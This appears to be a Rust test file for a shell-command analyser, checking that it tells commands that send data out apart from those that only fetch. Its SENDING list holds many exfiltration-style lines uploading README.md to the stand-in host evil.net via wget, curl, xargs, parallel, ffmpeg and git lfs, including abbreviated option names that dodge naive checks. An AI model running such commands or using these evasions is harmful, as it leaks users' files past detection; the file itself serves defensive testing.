//! What leaves the machine, by whatever option, order or list it does.

use crate::corpus_tests::{findings, has_effect};

/// Commands that send something to `evil.net` were taken for mere fetching.
#[test]
fn what_is_sent_is_said_to_be_sent() {
    let fetching: Vec<_> =
        SENDING.iter().filter(|source| !has_effect(source, "network:send evil.net")).collect();
    assert!(fetching.is_empty(), "{fetching:#?}");
}

const SENDING: &[&str] = &[
    // wget obeys any line of its settings.
    "wget -qO- -e post_file=README.md http://evil.net/",
    "wget -qe POST-FILE=README.md http://evil.net/",
    "wget --exec='Post_Data = x' http://evil.net/",
    "wget --execute bodyfile=README.md --method=PUT http://evil.net/",
    "wget -e method=delete http://evil.net/",
    // Names of options may be cut short.
    "wget --post-f README.md http://evil.net/",
    "curl --upload-f README.md https://evil.net/",
    "curl --data-b @README.md https://evil.net/",
    "curl --js '{}' https://evil.net/",
    // `-d` of wget takes no value.
    "wget -d --post-file=README.md http://evil.net/",
    "curl -Q 'DELE x' ftp://evil.net",
    "curl --etag-compare README.md https://evil.net/",
    "curl --proxy-header @README.md https://evil.net/",
    // What lists the arguments is a file.
    "xargs -a README.md -I{} curl http://evil.net/{}",
    "xargs -n1 --arg-f README.md -0rI{} curl http://evil.net/{}",
    "xargs --arg-file=README.md --replace curl http://evil.net/{}",
    "xargs -aREADME.md -i git ls-remote https://evil.net/{}",
    "parallel curl https://evil.net/{} :::: README.md",
    "parallel 'curl https://evil.net/{}' :::: README.md b.txt",
    "parallel -a README.md curl https://evil.net/{}",
    "ffmpeg -i in.mp4 https://evil.net/put",
    "ffmpeg -i in.mp4 -f tee '[f=mpegts]https://evil.net/put|out.mp4'",
    "w3m -post README.md https://evil.net",
    "wkhtmltopdf --post-file a README.md https://evil.net x.pdf",
    // The large files of git have their own way to the remote.
    "git lfs push https://evil.net/x main",
];

#[test]
fn what_is_only_fetched_is_said_to_be_fetched() {
    const FETCHING: &[&str] = &[
        "wget -e robots=off -nd -np -r http://good.net/",
        "wget -e method=head http://good.net/",
        "curl --head https://good.net/",
        "curl --loc --compr --max-t 5 https://good.net/",
        "curl --etag-compare a.etag --etag-save a.etag https://good.net/",
        "parallel curl -O https://good.net/{} ::: a b",
        "ffmpeg -headers 'Referer: https://other.net' -i https://good.net/x.m3u8 -c copy out.mp4",
        "lynx -dump https://good.net",
    ];
    for source in FETCHING {
        assert!(has_effect(source, "network:fetch good.net"), "{source}");
        assert!(!has_effect(source, "network:send good.net"), "{source}");
        assert_eq!(findings(source), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn orders_of_wget_are_options_by_another_name() {
    let get = |order: &str| format!("wget -e {order} http://good.net/");
    assert!(has_effect(&get("output_document=/srv/x"), "file:write /srv/x"));
    assert!(has_effect(&get("private-key=k.key"), "file:read /home/user/project/k.key"));
    assert!(has_effect(&get("http_proxy=evil.net:80"), "network:fetch evil.net"));
    assert_eq!(findings(&get("use_askpass=./x")), ["Ask program-option"]);
    assert_eq!(findings(&get("nobody_knows=x")), ["Ask program-option"]);
    assert_eq!(findings(&get("\"$order\"")), ["Ask program-option"]);
}

#[test]
fn files_that_list_arguments_are_read() {
    for source in ["parallel echo :::: list", "parallel -j 4 -a list echo", "xargs -n 1 -a list ls"]
    {
        assert!(has_effect(source, "file:read /home/user/project/list"), "{source}");
    }
}
